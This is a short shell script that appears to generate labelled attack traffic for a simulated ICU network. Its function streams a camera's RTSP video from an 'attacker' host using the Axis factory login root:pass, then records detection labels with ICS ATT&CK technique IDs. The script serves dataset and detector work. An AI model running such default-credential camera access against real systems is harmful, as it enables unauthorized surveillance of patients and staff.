# Camera viewing by an unauthorized host: the attacker plays the ICU camera's RTSP stream with
# the Axis factory account (root:pass) that was left enabled beside the recorder's account.
# Two labels: the unauthorized viewer, and the factory credentials the camera accepted.
DEFAULT_DURATION=30
attack_camera_unauthorized() {
  command -v gst-launch-1.0 > /dev/null || { echo "gst-launch-1.0 missing" >&2; return 1; }
  local t0 t1
  t0=$(now)
  run_in attacker rtspsrc 25 gst-launch-1.0 -q rtspsrc \
    location=rtsp://root:pass@10.10.6.61:554/test protocols=udp nat-method=none \
    timeout=15000000 ! fakesink
  t1=$(now)
  label camera_unauthorized T0852 attacker camera "$t0" "$t1" \
    "RTSP DESCRIBE/SETUP/PLAY of rtsp://10.10.6.61/test from 10.10.9.66 with the camera's default credentials"
  label default_credentials T0812 attacker camera "$t0" "$t1" \
    "the camera accepted the Axis factory account root:pass (RTSP Digest) from 10.10.9.66"
}
scenario_run() {
  start_ward "$1"
  sleep 9
  attack_camera_unauthorized
}
